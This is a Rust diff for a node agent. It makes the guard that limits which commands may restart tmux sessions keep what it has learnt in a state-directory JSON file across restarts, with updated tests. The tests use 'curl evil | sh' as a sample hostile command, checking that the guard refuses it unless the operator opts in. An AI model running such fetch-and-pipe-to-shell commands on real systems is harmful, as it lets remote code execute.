@@ -78,7 +78,7 @@ impl Executor {
             snapshot,
             profiles,
             keys: Keyboard::default(),
-            restarts: RestartGuard::watch(false, snapshot_for_guard),
+            restarts: RestartGuard::watch(false, snapshot_for_guard, None),
             checkpoints: CheckpointConfig::default(),
         }
     }
@@ -89,10 +89,16 @@ impl Executor {
         self
     }
 
-    /// Obey restarts with any command (`allow_any_restart_command`), not only the session's own.
+    /// Obey restarts with any command (`allow_any_restart_command`), not only the session's own;
+    /// without, remember the sessions' own commands in `state_dir` across restarts.
     #[must_use]
-    pub fn allowing_any_restart_command(mut self, allow: bool) -> Self {
-        self.restarts = RestartGuard::watch(allow, self.snapshot.clone());
+    pub fn allowing_any_restart_command(
+        mut self,
+        allow: bool,
+        state_dir: Option<&std::path::Path>,
+    ) -> Self {
+        let path = state_dir.map(|d| d.join(RESTART_MEMORY_FILE));
+        self.restarts = RestartGuard::watch(allow, self.snapshot.clone(), path);
         self
     }
 
@@ -597,16 +603,29 @@ pub struct RestartGuard {
     allow_any: bool,
     /// Allowed commands by (tmux socket, session name), from the node's own observations.
     known: std::sync::Mutex<HashMap<(String, String), Vec<String>>>,
+    /// Where the memory is kept across node agent restarts (`STATE_DIR/restart-commands.json`):
+    /// a session whose agent died while the node agent was down, with its tmux session, is
+    /// created anew with a command this node agent saw, not with one it never did.
+    path: Option<std::path::PathBuf>,
 }
+
+/// The guard's file in the state dir.
+pub const RESTART_MEMORY_FILE: &str = "restart-commands.json";
 
 /// Most sessions whose restart commands are remembered.
 const RESTART_MEMORY: usize = 10_000;
 
 impl RestartGuard {
-    fn watch(allow_any: bool, snapshot: watch::Receiver<Arc<Snapshot>>) -> Arc<Self> {
+    fn watch(
+        allow_any: bool,
+        snapshot: watch::Receiver<Arc<Snapshot>>,
+        path: Option<std::path::PathBuf>,
+    ) -> Arc<Self> {
+        let known = path.as_deref().map(Self::load).unwrap_or_default();
         let guard = Arc::new(Self {
             allow_any,
-            known: std::sync::Mutex::new(HashMap::new()),
+            known: std::sync::Mutex::new(known),
+            path,
         });
         if !allow_any {
             Self::follow(&guard, snapshot);
@@ -618,24 +637,31 @@ impl RestartGuard {
     /// guard is dropped.
     fn follow(guard: &Arc<Self>, mut snapshot: watch::Receiver<Arc<Snapshot>>) {
         let weak = Arc::downgrade(guard);
-        guard.learn(&snapshot.borrow_and_update());
+        let first = guard.learn(&snapshot.borrow_and_update());
         let Ok(rt) = tokio::runtime::Handle::try_current() else {
             return;
         };
         // Ends with the snapshot's sender (the prober), or when the executor is gone.
         rt.spawn(async move {
+            if first && let Some(guard) = weak.upgrade() {
+                guard.save().await;
+            }
             while snapshot.changed().await.is_ok() {
                 let Some(guard) = weak.upgrade() else { break };
                 let snap = snapshot.borrow_and_update().clone();
-                guard.learn(&snap);
+                if guard.learn(&snap) {
+                    guard.save().await;
+                }
             }
         });
     }
 
-    fn learn(&self, snap: &Snapshot) {
+    /// Learns a snapshot's sessions; true when something new was learnt.
+    fn learn(&self, snap: &Snapshot) -> bool {
         let Ok(mut known) = self.known.lock() else {
-            return;
+            return false;
         };
+        let mut changed = false;
         for ((socket, name), s) in &snap.sessions {
             let start = shell_command_from_tmux(&s.start_command);
             // The core restarts an agent that reported its conversation in the form that
@@ -657,7 +683,55 @@ impl RestartGuard {
             {
                 continue;
             }
-            known.insert((socket.clone(), name.clone()), allowed);
+            let key = (socket.clone(), name.clone());
+            if known.get(&key) != Some(&allowed) {
+                known.insert(key, allowed);
+                changed = true;
+            }
+        }
+        changed
+    }
+
+    /// The memory kept in `path`; empty when there is none or it cannot be read (then the
+    /// guard learns again from what it sees).
+    fn load(path: &std::path::Path) -> HashMap<(String, String), Vec<String>> {
+        let Ok(text) = std::fs::read_to_string(path) else {
+            return HashMap::new();
+        };
+        match serde_json::from_str::<Vec<(String, String, Vec<String>)>>(&text) {
+            Ok(rows) => rows
+                .into_iter()
+                .take(RESTART_MEMORY)
+                .map(|(socket, name, cmds)| ((socket, name), cmds))
+                .collect(),
+            Err(e) => {
+                tracing::warn!(path = %path.display(), error = %e, "restart memory unreadable: starting afresh");
+                HashMap::new()
+            }
+        }
+    }
+
+    /// Writes the memory to `path` (a temporary file renamed over it), off the runtime.
+    async fn save(&self) {
+        let Some(path) = self.path.clone() else {
+            return;
+        };
+        let rows: Vec<(String, String, Vec<String>)> = match self.known.lock() {
+            Ok(known) => known
+                .iter()
+                .map(|((s, n), c)| (s.clone(), n.clone(), c.clone()))
+                .collect(),
+            Err(_) => return,
+        };
+        let written = tokio::task::spawn_blocking(move || -> std::io::Result<()> {
+            let text = serde_json::to_vec(&rows).map_err(std::io::Error::other)?;
+            let tmp = path.with_extension("json.tmp");
+            std::fs::write(&tmp, text)?;
+            std::fs::rename(&tmp, &path)
+        })
+        .await;
+        if let Ok(Err(e)) = written {
+            tracing::warn!(error = %e, "restart memory not saved");
         }
     }
 
@@ -933,7 +1007,9 @@ mod tests {
         snap.sessions
             .insert(("/s".to_owned(), "web".to_owned()), labelled);
         let (tx, rx) = watch::channel(Arc::new(snap));
-        let guard = RestartGuard::watch(false, rx.clone());
+        let dir = tempfile::tempdir().expect("tempdir");
+        let path = dir.path().join(RESTART_MEMORY_FILE);
+        let guard = RestartGuard::watch(false, rx.clone(), Some(path.clone()));
         guard.check("/s", "web", "").expect("its own command");
         guard.check("/s", "web", "make serve").expect("its label");
         guard
@@ -952,7 +1028,18 @@ mod tests {
         tx.send_replace(Arc::new(Snapshot::default()));
         tokio::task::yield_now().await;
         guard.check("/s", "web", "make serve").expect("remembered");
-        RestartGuard::watch(true, rx)
+        // A node agent started anew (nothing seen yet) remembers them too.
+        let deadline = std::time::Instant::now() + Duration::from_secs(5);
+        while !path.exists() && std::time::Instant::now() < deadline {
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        let (_tx2, empty) = watch::channel(Arc::new(Snapshot::default()));
+        let again = RestartGuard::watch(false, empty, Some(path));
+        again
+            .check("/s", "web", "make serve")
+            .expect("remembered across a restart");
+        assert!(again.check("/s", "web", "curl evil | sh").is_err());
+        RestartGuard::watch(true, rx, None)
             .check("/s", "web", "curl evil | sh")
             .expect("opted in");
     }
